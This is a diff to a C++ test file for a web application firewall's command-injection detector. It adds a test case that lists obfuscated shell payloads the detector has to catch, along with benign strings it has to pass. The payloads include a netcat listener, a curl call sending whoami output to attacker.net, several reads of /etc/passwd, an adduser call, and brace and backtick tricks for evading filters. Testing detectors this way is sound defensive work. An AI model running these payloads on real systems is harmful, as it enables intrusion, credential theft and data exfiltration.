@@ -47,6 +47,16 @@ TEST(WafRceCases, CodeFromStringFragments) {
          "say \"hi\" & \"bye\""});
 }
 
+TEST(WafRceCases, VariablesBracesAndGluedNames) {
+  table(detect_cmdi,
+        {"a=nc&&$a -nlvp 555", "a=curl&&b=`whoami`&&$a attacker.net/$b", "garb=adduse[r];$garb pizza",
+         "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "{,echo,#test}", "{,cd,/etc,}", "ping`` 127.0.0.1",
+         "pi``ng 127.0.0.1", "pi<()ng 127.0.0.1", "find /etc -name passwd -exec cat {} +",
+         "dd if=/etc/passwd of=/tmp/x bs=1"},
+        {"a=1&b=2&c=3", "x=5; y=6", "price=$5", "{a,b,c}", "name=$name", "use ping to test", "find my keys",
+         "a=b&&c=d"});
+}
+
 TEST(WafRceCases, BatchStatements) {
   table(detect_cmdi,
         {"& FOR %@ IN (a,b,c)DO cmd", "FOR /F \"delims=\" %G IN  ('ECHO foo')DO @Echo %G",
